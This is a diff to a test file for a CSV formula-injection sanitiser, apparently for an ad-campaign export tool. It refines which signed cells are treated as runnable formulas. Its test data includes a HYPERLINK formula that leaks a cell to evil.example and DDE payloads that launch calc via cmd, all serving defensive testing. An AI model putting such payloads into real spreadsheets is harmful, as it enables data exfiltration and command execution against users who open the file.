@@ -21,8 +21,13 @@ function spreadsheetCells(text: string, delimiter: string): Promise<string[]> {
   });
 }
 
-/** What Excel, LibreOffice and Google Sheets would run as a formula (a lone sign or a number is not one). */
-const runsAsFormula = (cell: string) => /^[=+\-@\t\r]/.test(cell) && !/^(?:[-+]|[-+]?\d+(?:[.,]\d+)?)$/.test(cell);
+/**
+ * What Excel, LibreOffice and Google Sheets could run: any `=`, `@`, tab or CR start; a `+`/`-` start with
+ * something a function call, DDE or workbook link needs (`(`, `|`, `&`, `%`, `'`, or `[…]…!`) — a lone sign,
+ * a number and signed plain words (Direct's `-слово -фраза из слов`) are not formulas that do anything.
+ */
+const runsAsFormula = (cell: string) =>
+  /^[=@\t\r]/.test(cell) || (/^[-+]/.test(cell) && (/[^\p{L}\p{N} !+\-"[\].,]/u.test(cell) || /\[[^\]]*\][^!]*!/.test(cell)));
 
 const hostile = ['=HYPERLINK("http://evil.example/?leak="&A1,"Скидка")', '+7 (495) 123-45-67 звоните', '-50% на шубы', '@SUM(1+1)*cmd|\' /C calc\'!A0', '\t=1+2', '\r=1+2'];
 
@@ -67,7 +72,16 @@ const shape = (data: CampaignData) =>
 describe('CSV formula injection (OWASP): one cell writer for every CSV', () => {
   it('prefixes a quote to cells a spreadsheet would run, quotes them, and leaves lone signs and numbers alone', () => {
     expect(neutraliseFormula('=1+2')).toBe("'=1+2");
-    expect(neutraliseFormula('-слово')).toBe("'-слово");
+    // Direct's minus-words are text to a spreadsheet and must reach Direct as they are.
+    expect(neutraliseFormula('-слово')).toBe('-слово');
+    expect(neutraliseFormula('-своими руками -вакансии')).toBe('-своими руками -вакансии');
+    expect(neutraliseFormula('-!в -[купить розы]')).toBe('-!в -[купить розы]');
+    expect(neutraliseFormula('+в наличии')).toBe('+в наличии');
+    // …but a sign followed by a function call, a DDE link or a workbook link is not.
+    expect(neutraliseFormula("-cmd|' /C calc'!A0")).toBe("'-cmd|' /C calc'!A0");
+    expect(neutraliseFormula('+HYPERLINK("http://evil.example")')).toBe('\'+HYPERLINK("http://evil.example")');
+    expect(neutraliseFormula('-[книга]лист!A1')).toBe("'-[книга]лист!A1");
+    expect(neutraliseFormula('-50% на шубы')).toBe("'-50% на шубы");
     expect(neutraliseFormula('-')).toBe('-');
     expect(neutraliseFormula('+')).toBe('+');
     expect(neutraliseFormula('-12,5')).toBe('-12,5');
